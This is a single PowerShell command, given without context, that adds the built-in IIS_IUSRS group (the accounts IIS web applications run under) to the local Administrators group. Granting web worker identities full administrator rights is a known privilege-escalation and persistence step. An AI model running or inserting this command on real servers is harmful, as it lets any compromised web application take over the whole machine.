'BUILTIN\IIS_IUSRS' | Add-LocalGroupMember -Group 'Administrators'
